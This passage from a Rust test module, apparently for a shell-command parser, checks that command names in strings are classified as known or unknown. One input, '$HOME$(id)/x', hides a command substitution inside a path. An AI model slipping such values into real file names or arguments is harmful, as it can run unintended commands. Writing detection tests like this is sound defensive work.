        assert_eq!(names("$UNSET/bin/x"), [unknown("$UNSET/bin/x")]);
        assert_eq!(
            names("$HOME$(id)/x"),
            [unknown("$HOME$(id)/x"), known("id")]
        );
    }
}
